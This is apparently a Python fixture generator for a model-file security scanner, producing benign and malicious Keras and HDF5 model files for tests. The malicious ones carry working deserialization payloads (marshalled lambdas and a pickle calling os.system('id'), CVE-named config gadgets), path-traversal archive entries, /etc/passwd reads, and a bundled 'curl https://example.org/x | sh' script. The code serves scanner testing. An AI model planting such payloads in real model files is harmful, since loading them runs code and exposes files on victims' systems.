"""Writes the trees of the tests: models as Keras writes them, and such as the
published advisories describe. Needs h5py. Afterwards: go test -run '^Test$' -update.

python3 make.py                     writes ../testdata/*.txtar here and in model/hdf5
python3 make.py FOLDER              writes the files themselves, for other scanners
"""
import base64
import io
import json
import marshal
import os
import sys
import zipfile

import h5py
import numpy as np

WHEN = (2024, 1, 1, 0, 0, 0)
HERE = os.path.dirname(os.path.abspath(__file__))
BAD = base64.encodebytes(marshal.dumps((lambda x: __import__("os").system("id") or x).__code__)).decode()
GOOD = base64.encodebytes(marshal.dumps((lambda x: x * 2 + 1).__code__)).decode()


class Evil:
    def __reduce__(self):
        return os.system, ("id",)


def weights():
    b = io.BytesIO()
    with h5py.File(b, "w") as f:
        f.create_dataset("layers/dense/vars/0", data=np.ones((4, 3), "f4"))
        f.create_dataset("layers/dense/vars/1", data=np.ones(3, "f4"))
        f.create_dataset("optimizer/vars/0", data=np.int64(1))
    return b.getvalue()


def layer(cls, config=None, **more):
    return {"module": "keras.layers", "class_name": cls, "config": config or {}, "registered_name": None, **more}


def sequential(*layers, **more):
    first = layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input"})
    dense = layer("Dense", {"name": "dense", "units": 3})
    return {"module": "keras", "class_name": "Sequential", "registered_name": "Sequential",
            "config": {"name": "sequential", "layers": [first, dense, *layers]}, **more}


def archive(config, members=None, method=zipfile.ZIP_STORED, raw=None):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        all = {"metadata.json": json.dumps({"keras_version": "3.8.0", "date_saved": "2025-02-03@04:05:06"}),
               "config.json": raw or json.dumps(config), "model.weights.h5": weights()}
        all.update({"model.weights.h5": None} if members is None else members)  # without weights, most are small
        for name, data in all.items():
            if data is not None:
                info = zipfile.ZipInfo(name, WHEN)
                info.compress_type = method
                z.writestr(info, data)
    return b.getvalue()


def twice(first, second):
    """An archive with the members of both."""
    b = io.BytesIO(first)
    with zipfile.ZipFile(b, "a") as z, zipfile.ZipFile(io.BytesIO(second)) as more:
        for info in more.infolist():
            z.writestr(zipfile.ZipInfo(info.filename, WHEN), more.read(info))
    return b.getvalue()


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def lambda_layer(code):
    return layer("Lambda", {"name": "lambda", "function": {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}})


def npz(pickled):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        for name, value in {"layers/dense/vars": np.ones(3, "f4")}.items() if not pickled else {"evil": np.array([Evil()], dtype=object)}.items():
            x = io.BytesIO()
            np.save(x, value, allow_pickle=True)
            z.writestr(zipfile.ZipInfo(name + ".npy", WHEN), x.getvalue())
    return b.getvalue()


def keras_files():
    compiled = {"compile_config": {"optimizer": {"module": "keras.optimizers", "class_name": "Adam", "config": {"learning_rate": 0.001, "name": "adam"}},
                                   "loss": "mse", "metrics": ["accuracy"]}}
    custom = {"module": "my.layers", "class_name": "Attention2", "config": {"name": "att"}, "registered_name": "mine>Attention2"}
    return {
        "benign": {"plain.keras": archive(sequential(**compiled), {}),
                   "packed.keras": archive(sequential(), {}, method=zipfile.ZIP_DEFLATED),
                   "arrays.keras": archive(sequential(), {"model.weights.h5": None, "model.weights.npz": npz(False)}),
                   "custom.keras": archive(sequential(custom, layer("Lambda", {"function": function("builtins", "my_scale")}))),
                   "infinite.keras": archive(None, raw='{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"class_name": "ReLU", "config": {"max_value": Infinity, "name": "NaN"}}]}}')},
        "lambda": {"twice.keras": twice(archive(sequential()), archive(sequential(lambda_layer(BAD)))), "bad.keras": archive(sequential(lambda_layer(BAD))), "good.keras": archive(sequential(lambda_layer(GOOD))),
                   "broken.keras": archive(sequential(lambda_layer("4wAAAA=="))),
                   "hidden.keras": archive(sequential(layer("Dense", {"note": BAD})))},
        "gadgets": {"cve-2025-1550.keras": archive(sequential(layer("Dense", {"activation": function("os", "system")}))),
                    "builtins.keras": archive(sequential(layer("Dense", {"activation": function("builtins", "exec")}))),
                    "cve-2025-8747.keras": archive(sequential(layer("Dense", {"activation": function("keras.utils", "get_file"), "origin": "https://example.org/x"}))),
                    "cve-2025-9906.keras": archive(sequential(layer("Dense", {"activation": function("keras.config", "enable_unsafe_deserialization")}))),
                    "cve-2025-49655.keras": archive(sequential(layer("TorchModuleWrapper", {"module": {"class_name": "__bytes__", "config": {"value": "cos\nsystem\n(S'id'\ntR."}}}))),
                    "vocabulary.keras": archive(sequential(layer("StringLookup", {"vocabulary": "/etc/passwd"}), layer("TextVectorization", {"vocabulary": "words.txt"}))),
                    "savedmodel.keras": archive(sequential(layer("TFSMLayer", {"filepath": "https://example.org/model"}))),
                    "unknown.keras": archive(sequential({"module": "someones.package", "class_name": "Thing", "config": {}, "registered_name": None})),
                    "utf16.keras": archive(None, raw=json.dumps(sequential(lambda_layer(BAD))).encode("utf-16-le"))},
        "archives": {"traversal.keras": archive(sequential(), {"model.weights.h5": None, "assets/../../../evil.txt": "x"}),
                     "program.keras": archive(sequential(), {"model.weights.h5": None, "assets/run.sh": "#!/bin/sh\ncurl https://example.org/x | sh\n"}),
                     "pickle.keras": archive(sequential(), {"model.weights.h5": None, "model.weights.npz": npz(True)}),
                     "damaged.keras": archive(sequential(), {})[:-200],
                     "other.keras": archive(sequential(), {"config.json": None}),
                     "text.keras": b"no archive\n"},
    }


def model(f, config, training=None):
    f.attrs["keras_version"], f.attrs["backend"] = "2.11.0", "tensorflow"
    f.attrs["model_config"] = json.dumps(config)
    if training:
        f.attrs["training_config"] = json.dumps(training)
    g = f.create_group("model_weights")
    g.attrs["layer_names"] = np.array([b"dense"])
    g.create_dataset("dense/dense/kernel:0", data=np.ones((4, 3), "f4"))
    g.create_dataset("dense/dense/bias:0", data=np.ones(3, "f4"))
    f.create_dataset("optimizer_weights/Adam/iteration:0", data=np.int64(3))


def hdf5(fill):
    b = io.BytesIO()
    with h5py.File(b, "w", libver="v108") as f:
        fill(f)
    return b.getvalue()


def legacy(*layers):
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
        {"class_name": "Dense", "config": {"name": "dense", "batch_input_shape": [None, 4], "dtype": "float32", "units": 3}}, *layers]}}


def old_lambda(code):
    return {"class_name": "Lambda", "config": {"name": "lambda", "function": [code, None, None], "function_type": "lambda", "module": "__main__"}}


def data(f):
    f.create_dataset("measured", data=np.arange(6.0).reshape(2, 3))


def linked(f):
    f["layers/dense/vars/0"] = h5py.ExternalLink("/etc/passwd", "/x")
    f.create_dataset("layers/dense/vars/1", shape=(4,), dtype="f4", external=[("../elsewhere.bin", 0, 16)])
    layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
    layout[:] = h5py.VirtualSource("source.h5", "data", shape=(4,))
    f.create_virtual_dataset("layers/dense/vars/2", layout)
    f.create_dataset("layers/dense/vars/3", shape=(1 << 40,), dtype="f4", chunks=(1 << 20,), compression="gzip")


def hdf5_files():
    training = {"loss": "mse", "metrics": None, "optimizer_config": {"class_name": "Adam", "config": {"learning_rate": 0.01}}}
    whole = hdf5(lambda f: model(f, legacy({"class_name": "Dropout", "config": {"rate": 0.5}}), training))
    return {
        "benign": {"whole.h5": whole, "weights/model.weights.h5": weights(), "data.h5": hdf5(data)},
        "lambda": {"bad.h5": hdf5(lambda f: model(f, legacy(old_lambda(BAD)))), "named.h5": hdf5(lambda f: model(f, legacy({"class_name": "Lambda", "config": {"function": "my_scale", "function_type": "function"}})))},
        "hostile": {"linked.h5": hdf5(linked), "cut.h5": whole[:1500], "text.h5": b"no HDF5\n",
                    "operation.h5": hdf5(lambda f: model(f, legacy({"class_name": "TFOpLambda", "config": {"function": "io.write_file"}})))},
    }


def main():
    for where, trees in (("keras", keras_files()), ("hdf5", hdf5_files())):
        for tree, files in trees.items():
            if len(sys.argv) > 1:
                for name, content in files.items():
                    at = os.path.join(sys.argv[1], where, tree, os.path.basename(name))
                    os.makedirs(os.path.dirname(at), exist_ok=True)
                    open(at, "wb").write(content)
                continue
            with open(os.path.join(HERE, "../../%s/testdata/%s.txtar" % (where, tree)), "w") as out:
                out.write("Made by model/keras/testdata/make.py.\n")
                for name, content in files.items():
                    out.write("-- %s.hex --\n" % name)
                    text = content.hex()
                    for i in range(0, len(text), 120):
                        out.write(text[i:i + 120] + "\n")


main()
